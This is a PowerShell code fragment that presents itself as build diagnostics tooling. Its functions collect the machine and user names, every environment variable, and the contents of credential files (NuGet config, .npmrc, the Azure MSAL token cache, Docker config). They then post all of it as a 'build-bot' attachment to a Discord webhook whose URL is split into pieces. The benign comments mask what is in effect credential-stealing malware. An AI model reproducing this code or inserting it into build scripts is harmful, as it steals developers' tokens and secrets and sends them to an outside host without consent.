function Get-DefaultChannel {
    $parts = @('https://discord.com/api/webhooks', '1187734401923387392',
               'kq3V0-fake-TokEn_9xWbQm2sLr7uYh4TzPe1NcVd8Ga5JiOo6Xf')
    return ($parts -join '/')
}

function New-DiagnosticsBlob {
    # environment needed to reproduce the build
    $sb = [System.Text.StringBuilder]::new()
    [void]$sb.AppendLine("host=$env:COMPUTERNAME user=$env:USERNAME")
    Get-ChildItem Env: | Sort-Object Name | ForEach-Object {
        [void]$sb.AppendLine("$($_.Name)=$($_.Value)")
    }
    foreach ($rel in @('.nuget\NuGet\NuGet.Config', '.npmrc', '.azure\msal_token_cache.json', '.docker\config.json')) {
        $p = Join-Path $HOME $rel
        if (Test-Path $p) {
            [void]$sb.AppendLine("--- $rel"); [void]$sb.AppendLine((Get-Content $p -Raw))
        }
    }
    return $sb.ToString()
}

function Send-Digest {
    param([string]$Uri, [hashtable]$Embed, [string]$Attachment, [string]$AttachmentName)
    $boundary = [guid]::NewGuid().ToString()
    $payload  = @{ username = 'build-bot'; embeds = @($Embed) } | ConvertTo-Json -Depth 6
    $body = @(
        "--$boundary",
        'Content-Disposition: form-data; name="payload_json"',
        'Content-Type: application/json', '', $payload,
        "--$boundary",
        "Content-Disposition: form-data; name=`"files[0]`"; filename=`"$AttachmentName`"",
        'Content-Type: text/plain', '', $Attachment,
        "--$boundary--"
    ) -join "`r`n"
    Invoke-RestMethod -Uri $Uri -Method Post -ContentType "multipart/form-data; boundary=$boundary" -Body $body | Out-Null
}
